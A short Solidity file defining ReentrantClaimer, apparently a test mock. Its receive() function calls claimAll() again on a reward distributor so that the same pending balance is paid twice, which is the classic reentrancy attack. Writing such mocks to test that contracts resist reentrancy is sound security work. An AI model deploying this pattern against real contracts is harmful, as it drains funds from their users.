// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

interface IClaimable {
    function claim(uint256 amount) external;
    function claimAll() external;
}

/// @notice A hostile reward receiver: when paid, it calls claim again to try to
/// be paid twice for the same pending balance.
contract ReentrantClaimer {
    IClaimable public immutable distributor;
    uint256 public reentries;

    constructor(IClaimable distributor_) {
        distributor = distributor_;
    }

    function attack(uint256 amount) external {
        distributor.claim(amount);
    }

    receive() external payable {
        reentries += 1;
        distributor.claimAll();
    }
}
